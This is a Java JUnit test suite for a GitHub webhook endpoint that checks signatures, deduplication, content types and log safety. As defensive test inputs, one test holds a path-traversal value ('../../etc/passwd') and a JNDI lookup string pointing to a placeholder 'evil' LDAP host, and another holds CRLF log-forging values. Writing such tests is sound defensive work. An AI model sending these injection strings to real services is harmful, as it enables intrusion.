package dev.argus.ingress.http;

import static dev.argus.ingress.Payloads.check;
import static dev.argus.ingress.Payloads.pullRequest;
import static dev.argus.ingress.Payloads.reviewThread;
import static dev.argus.ingress.http.RunningIngress.OLD_SECRET;
import static dev.argus.ingress.http.RunningIngress.SECRET;
import static dev.argus.ingress.http.RunningIngress.delivery;
import static dev.argus.ingress.http.RunningIngress.header;
import static dev.argus.ingress.http.RunningIngress.signature;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.argus.events.Event;
import dev.argus.events.FeedbackReceived;
import dev.argus.events.PullRequestRef;
import dev.argus.events.ReviewRequested;
import dev.argus.events.Topic;
import dev.argus.events.Trigger;
import dev.argus.ingress.IngressMeters;
import dev.argus.ingress.Payloads;
import dev.argus.ingress.Payloads.Example;
import dev.argus.runtime.pullrequest.Known;
import dev.argus.runtime.pullrequest.PullRequestState;
import dev.argus.runtime.pullrequest.Sighting;
import io.micrometer.core.instrument.Counter;
import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.UUID;
import java.util.concurrent.CompletableFuture;
import org.apache.kafka.clients.consumer.ConsumerRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;
import tools.jackson.databind.node.ObjectNode;

class WebhookEndpointTest {

    private final RunningIngress ingress = RunningIngress.shared();
    private final String deliveryId = UUID.randomUUID().toString();
    private final Logger logger = (Logger) LoggerFactory.getLogger("dev.argus.delivery");
    private final ListAppender<ILoggingEvent> lines = new ListAppender<>();

    @BeforeEach
    void listen() {
        lines.start();
        logger.addAppender(lines);
    }

    @AfterEach
    void stop_listening() {
        logger.detachAppender(lines);
    }

    @Test
    void an_opened_pull_request_is_accepted_once_it_is_on_its_topic() throws Exception {
        HttpResponse<String> answer = ingress.send(mine("pull_request", pullRequest("opened")));

        assertThat(answer.statusCode()).isEqualTo(202);
        assertThat(answer.body()).isEqualTo("{\"outcome\":\"accepted\"}");
        assertThat(answer.headers().firstValue("Content-Type")).contains("application/json");
        assertThat(events(Topic.REVIEW_REQUESTED))
                .singleElement()
                .isInstanceOfSatisfying(ReviewRequested.class, request -> {
                    assertThat(request.trigger()).isEqualTo(Trigger.OPENED);
                    assertThat(request.pullRequest()).hasToString("acme/widgets#42");
                    assertThat(request.deliveryId()).isEqualTo(deliveryId);
                });
    }

    @Test
    void what_a_delivery_shows_of_its_pull_request_is_known_when_it_is_answered() throws Exception {
        ObjectNode closed = pullRequest("closed").put("number", 4242);
        closed.withObject("pull_request").put("number", 4242).put("state", "closed");
        PullRequestRef ref =
                new PullRequestRef(Payloads.INSTALLATION_ID, Payloads.REPOSITORY_ID, "acme", "widgets", 4242);

        assertThat(ingress.send(mine("pull_request", closed)).statusCode()).isEqualTo(202);

        assertThat(ingress.pullRequests().find(Set.of(ref)).map(Known::state).blockFirst())
                .isEqualTo(PullRequestState.of(
                        new Sighting(Payloads.HEAD, null, false, false, Instant.parse(Payloads.UPDATED_AT))));
    }

    @Test
    void a_form_is_taken_as_well_as_json() throws Exception {
        byte[] form = ("payload=" + URLEncoder.encode(pullRequest("opened").toString(), UTF_8)).getBytes(UTF_8);

        HttpResponse<String> answer =
                ingress.send(mine("pull_request", form).setHeader("Content-Type", "application/x-www-form-urlencoded"));

        assertThat(answer.statusCode()).isEqualTo(202);
        assertThat(events(Topic.REVIEW_REQUESTED)).hasSize(1);
    }

    @Test
    void settling_a_thread_is_feedback() throws Exception {
        assertThat(ingress.send(mine("pull_request_review_thread", reviewThread("resolved")))
                        .statusCode())
                .isEqualTo(202);

        assertThat(events(Topic.FEEDBACK_RECEIVED)).hasSize(1);
    }

    @Test
    void a_re_run_that_concerns_two_pull_requests_is_two_events_with_ids_of_their_own() throws Exception {
        assertThat(ingress.send(mine("check_run", check("check_run", "rerequested", 42, 43)))
                        .statusCode())
                .isEqualTo(202);

        assertThat(records(Topic.REVIEW_REQUESTED))
                .hasSize(2)
                .extracting(record -> header(record, "ce_id"))
                .doesNotHaveDuplicates();
    }

    @Test
    void fifty_times_the_same_delivery_at_once_is_one_review() throws Exception {
        List<CompletableFuture<HttpResponse<String>>> answers = new ArrayList<>();
        for (int i = 0; i < 50; i++) {
            answers.add(ingress.sendAsync(mine("pull_request", pullRequest("opened"))));
        }

        assertThat(answers)
                .allSatisfy(answer -> assertThat(answer.join().statusCode()).isIn(200, 202));
        assertThat(records(Topic.REVIEW_REQUESTED))
                .isNotEmpty()
                .extracting(record -> header(record, "ce_id"))
                .containsOnly(header(records(Topic.REVIEW_REQUESTED).get(0), "ce_id"));
    }

    @Test
    void a_redelivery_changes_nothing() throws Exception {
        ingress.send(mine("pull_request", pullRequest("opened")));

        HttpResponse<String> again = ingress.send(mine("pull_request", pullRequest("opened")));

        assertThat(again.statusCode()).isEqualTo(200);
        assertThat(again.body())
                .isEqualTo("{\"outcome\":\"repeated\",\"reason\":\"this delivery was accepted before\"}");
        assertThat(records(Topic.REVIEW_REQUESTED)).hasSize(1);
    }

    @Test
    void two_deliveries_of_one_head_are_one_review() throws Exception {
        String other = UUID.randomUUID().toString();

        ingress.send(mine("pull_request", pullRequest("opened")));
        ingress.send(mine("pull_request", pullRequest("synchronize")).setHeader("X-GitHub-Delivery", other));

        List<Event> both = new ArrayList<>(events(Topic.REVIEW_REQUESTED));
        both.addAll(events(Topic.REVIEW_REQUESTED, other));
        assertThat(both)
                .hasSize(2)
                .extracting(event -> ((ReviewRequested) event).review())
                .containsOnly(((ReviewRequested) both.get(0)).review());
    }

    @Test
    void the_same_delivery_to_another_app_is_another_delivery() throws Exception {
        ObjectNode others = pullRequest("opened");
        others.withObject("installation").put("id", Payloads.INSTALLATION_ID + 1);

        HttpResponse<String> one = ingress.send(mine("pull_request", pullRequest("opened")));
        HttpResponse<String> other =
                ingress.send(mine("pull_request", others).setHeader("X-GitHub-Hook-Installation-Target-ID", "4712"));

        assertThat(List.of(one.statusCode(), other.statusCode())).containsOnly(202);
        assertThat(records(Topic.REVIEW_REQUESTED))
                .hasSize(2)
                .extracting(record -> header(record, "ce_id"))
                .doesNotHaveDuplicates();
    }

    @Test
    void every_example_of_github_is_answered_with_success() throws Exception {
        for (Example example : Payloads.examples()) {
            HttpResponse<String> answer = ingress.send(delivery(example.event(), example.payload()));

            assertThat(answer.statusCode()).as("%s: %s", example, answer.body()).isIn(200, 202);
        }
    }

    @ParameterizedTest
    @CsvSource({
        "issue_comment, Apps tell Argus nothing",
        "pull_request_review, pull_request_review events change nothing here",
        "pull_request_review_comment, Apps tell Argus nothing"
    })
    void what_a_bot_says_starts_nothing(String event, String reason) throws Exception {
        Example example = Payloads.examples().stream()
                .filter(candidate -> candidate.event().equals(event))
                .findFirst()
                .orElseThrow();
        ObjectNode bots = example.payload().deepCopy().put("action", "created");
        bots.withObject("sender").put("type", "Bot").put("login", "argus[bot]");
        bots.withObject("comment")
                .put("body", "/argus review")
                .withObject("user")
                .put("type", "Bot");

        HttpResponse<String> answer = ingress.send(mine(event, bots));

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.body()).isEqualTo("{\"outcome\":\"ignored\",\"reason\":\"%s\"}".formatted(reason));
        assertNothingPublished();
    }

    @Test
    void a_ping_is_answered() throws Exception {
        HttpResponse<String> answer =
                ingress.send(mine("ping", Payloads.example("ping", "").payload()));

        assertThat(answer.statusCode()).isEqualTo(200);
        assertThat(answer.body()).isEqualTo("{\"outcome\":\"ignored\",\"reason\":\"pong\"}");
    }

    @Test
    void either_secret_will_do_while_it_is_being_changed() throws Exception {
        byte[] body = pullRequest("opened").toString().getBytes(UTF_8);

        HttpResponse<String> withOld =
                ingress.send(mine("pull_request", body).setHeader("X-Hub-Signature-256", signature(OLD_SECRET, body)));
        HttpResponse<String> withNew =
                ingress.send(mine("pull_request", body).setHeader("X-Hub-Signature-256", signature(SECRET, body)));

        assertThat(withOld.statusCode()).isEqualTo(202);
        assertThat(withNew.statusCode()).isEqualTo(200);
    }

    @Test
    void a_signature_of_another_secret_or_body_is_refused() throws Exception {
        byte[] body = pullRequest("opened").toString().getBytes(UTF_8);
        String reordered = "{\"x\":1," + new String(body, UTF_8).substring(1);
        List<HttpRequest.Builder> requests = List.of(
                mine("pull_request", body).setHeader("X-Hub-Signature-256", signature("guessed", body)),
                mine("pull_request", reordered.getBytes(UTF_8))
                        .setHeader("X-Hub-Signature-256", signature(SECRET, body)),
                mine("pull_request", ("\uFEFF" + new String(body, UTF_8)).getBytes(UTF_8))
                        .setHeader("X-Hub-Signature-256", signature(SECRET, body)),
                mine(
                                "pull_request",
                                new String(body, UTF_8)
                                        .replace("acme", "\\u0061cme")
                                        .getBytes(UTF_8))
                        .setHeader("X-Hub-Signature-256", signature(SECRET, body)),
                mine("pull_request", new byte[0]).setHeader("X-Hub-Signature-256", signature(SECRET, body)));

        for (HttpRequest.Builder request : requests) {
            HttpResponse<String> answer = ingress.send(request);

            assertThat(answer.statusCode()).isEqualTo(401);
            assertThat(answer.body()).contains("\"outcome\":\"refused\"").doesNotContain("acme");
        }
        assertNothingPublished();
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "sha256=", "sha1=0123456789abcdef0123456789abcdef01234567", "sha256=ABCDEF"})
    void what_is_no_signature_is_refused(String value) throws Exception {
        HttpResponse<String> answer =
                ingress.send(mine("pull_request", pullRequest("opened")).setHeader("X-Hub-Signature-256", value));

        assertThat(answer.statusCode()).isEqualTo(401);
        assertNothingPublished();
    }

    @Test
    void upper_case_truncated_and_doubled_signatures_are_refused() throws Exception {
        byte[] body = pullRequest("opened").toString().getBytes(UTF_8);
        String good = signature(SECRET, body);
        List<HttpRequest.Builder> requests = List.of(
                mine("pull_request", body)
                        .setHeader(
                                "X-Hub-Signature-256",
                                "sha256=" + good.substring(7).toUpperCase(java.util.Locale.ROOT)),
                mine("pull_request", body).setHeader("X-Hub-Signature-256", good.substring(0, good.length() - 1)),
                mine("pull_request", body).setHeader("X-Hub-Signature-256", good + good),
                mine("pull_request", body).header("X-Hub-Signature-256", good));

        for (HttpRequest.Builder request : requests) {
            assertThat(ingress.send(request).statusCode()).isEqualTo(401);
        }
        assertNothingPublished();
    }

    @Test
    void json_that_is_none_is_refused_although_it_is_signed() throws Exception {
        HttpResponse<String> answer = ingress.send(mine("pull_request", "{\"action\":".getBytes(UTF_8)));

        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(answer.body()).isEqualTo("{\"outcome\":\"refused\",\"reason\":\"the body is not JSON\"}");
    }

    @Test
    void a_form_without_a_payload_is_refused() throws Exception {
        HttpResponse<String> answer = ingress.send(mine("pull_request", "load=%7B%7D".getBytes(UTF_8))
                .setHeader("Content-Type", "application/x-www-form-urlencoded"));

        assertThat(answer.statusCode()).isEqualTo(400);
    }

    @Test
    void a_header_that_names_another_event_than_the_body_is_refused() throws Exception {
        HttpResponse<String> answer = ingress.send(mine("check_run", pullRequest("opened")));

        assertThat(answer.statusCode()).isEqualTo(400);
        assertNothingPublished();
    }

    @ParameterizedTest
    @CsvSource({
        "X-GitHub-Event, ''",
        "X-GitHub-Event, Pull Request",
        "X-GitHub-Event, pull_request\u00e9",
        "X-GitHub-Delivery, ''",
        "X-GitHub-Delivery, ../../etc/passwd",
        "X-GitHub-Delivery, ${jndi:ldap://evil}"
    })
    void headers_that_github_would_not_write_are_refused(String name, String value) throws Exception {
        HttpResponse<String> answer =
                ingress.send(mine("pull_request", pullRequest("opened")).setHeader(name, value));

        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(answer.body()).contains(name).doesNotContain("jndi", "passwd");
    }

    @ParameterizedTest
    @ValueSource(strings = {"text/plain", "application/xml", "multipart/form-data; boundary=x", "json", "*/*"})
    void other_content_types_are_refused(String contentType) throws Exception {
        HttpResponse<String> answer =
                ingress.send(mine("pull_request", pullRequest("opened")).setHeader("Content-Type", contentType));

        assertThat(answer.statusCode()).isEqualTo(415);
    }

    @ParameterizedTest
    @ValueSource(strings = {"gzip", "br", "deflate", "x-unknown"})
    void encoded_bodies_are_refused(String encoding) throws Exception {
        HttpResponse<String> answer =
                ingress.send(mine("pull_request", pullRequest("opened")).setHeader("Content-Encoding", encoding));

        assertThat(answer.statusCode()).isEqualTo(415);
    }

    @Test
    void a_charset_behind_the_content_type_does_no_harm() throws Exception {
        HttpResponse<String> answer = ingress.send(mine("pull_request", pullRequest("opened"))
                .setHeader("Content-Type", "Application/JSON; charset=utf-8"));

        assertThat(answer.statusCode()).isEqualTo(202);
    }

    @ParameterizedTest
    @ValueSource(strings = {"GET", "PUT", "DELETE", "OPTIONS", "PATCH"})
    void there_is_nothing_to_do_here_but_to_post(String method) throws Exception {
        HttpResponse<String> answer = ingress.send(
                mine("pull_request", pullRequest("opened")).method(method, HttpRequest.BodyPublishers.noBody()));

        assertThat(answer.statusCode()).isEqualTo(405);
        assertThat(answer.headers().firstValue("Allow")).contains("POST");
    }

    @Test
    void a_line_in_the_log_tells_of_each_delivery_and_nothing_of_its_body() throws Exception {
        ingress.send(mine("pull_request", pullRequest("opened")));

        assertThat(lines.list).singleElement().satisfies(line -> {
            assertThat(line.getFormattedMessage())
                    .isEqualTo("delivery " + deliveryId + " of pull_request: accepted acme/widgets#42");
            assertThat(line.getKeyValuePairs())
                    .extracting(pair -> pair.key + "=" + pair.value)
                    .containsExactly(
                            "outcome=accepted",
                            "delivery.id=" + deliveryId,
                            "event=pull_request",
                            "installation.id=" + Payloads.INSTALLATION_ID,
                            "repository=acme/widgets",
                            "pull=42");
        });
    }

    @Test
    void nobody_can_write_a_line_of_their_own_into_the_log() throws Exception {
        ObjectNode forged = pullRequest("opened");
        forged.put("action", "x\n2026-11-21 ERROR all is lost");
        forged.withObject("repository").put("name", "x\r\ndelivery y: accepted");

        ingress.send(mine("pull_request", forged));
        ingress.send(mine("pull_request", pullRequest("opened")).setHeader("X-GitHub-Delivery", "y\taccepted: red"));

        assertThat(lines.list)
                .hasSize(2)
                .allSatisfy(line -> assertThat(line.getFormattedMessage())
                        .doesNotContain("\n", "\r", "\t", "all is lost", "accepted"));
    }

    @Test
    void every_delivery_is_counted_and_timed() throws Exception {
        double before = count("pull_request", "accepted");
        double ignoredBefore = count("other", "ignored");
        double refusedBefore = count("none", "refused");

        ingress.send(mine("pull_request", pullRequest("opened")));
        ingress.send(mine("invented_tomorrow", pullRequest("opened")));
        ingress.send(mine("pull_request", pullRequest("opened")).setHeader("X-GitHub-Event", "?"));

        assertThat(count("pull_request", "accepted") - before).isEqualTo(1);
        assertThat(count("other", "ignored") - ignoredBefore).isEqualTo(1);
        assertThat(count("none", "refused") - refusedBefore).isEqualTo(1);
        assertThat(ingress.meters()
                        .get(IngressMeters.ACK.name())
                        .tag(IngressMeters.OUTCOME, "accepted")
                        .timer()
                        .count())
                .isPositive();
        assertThat(ingress.meters().get(IngressMeters.BUFFERED.name()).gauge().value())
                .as("what was received is free again")
                .isZero();
    }

    private double count(String event, String outcome) {
        Counter counter = ingress.meters()
                .find(IngressMeters.RECEIVED.name())
                .tags(IngressMeters.EVENT, event, IngressMeters.OUTCOME, outcome)
                .counter();
        return counter == null ? 0 : counter.count();
    }

    private void assertNothingPublished() {
        assertThat(events(Topic.REVIEW_REQUESTED)).isEmpty();
        assertThat(events(Topic.FEEDBACK_RECEIVED)).isEmpty();
    }

    private HttpRequest.Builder mine(String event, ObjectNode payload) {
        return delivery(event, payload).setHeader("X-GitHub-Delivery", deliveryId);
    }

    private HttpRequest.Builder mine(String event, byte[] body) {
        return delivery(event, body).setHeader("X-GitHub-Delivery", deliveryId);
    }

    private List<ConsumerRecord<String, byte[]>> records(Topic topic) {
        return records(topic, deliveryId);
    }

    private List<ConsumerRecord<String, byte[]>> records(Topic topic, String delivery) {
        return ingress.records(topic).stream()
                .filter(record -> delivery.equals(deliveryOf(RunningIngress.event(record))))
                .toList();
    }

    private List<Event> events(Topic topic) {
        return events(topic, deliveryId);
    }

    private List<Event> events(Topic topic, String delivery) {
        return records(topic, delivery).stream().map(RunningIngress::event).toList();
    }

    private static String deliveryOf(Event event) {
        return event instanceof FeedbackReceived feedback
                ? feedback.deliveryId()
                : String.valueOf(((ReviewRequested) event).deliveryId());
    }
}
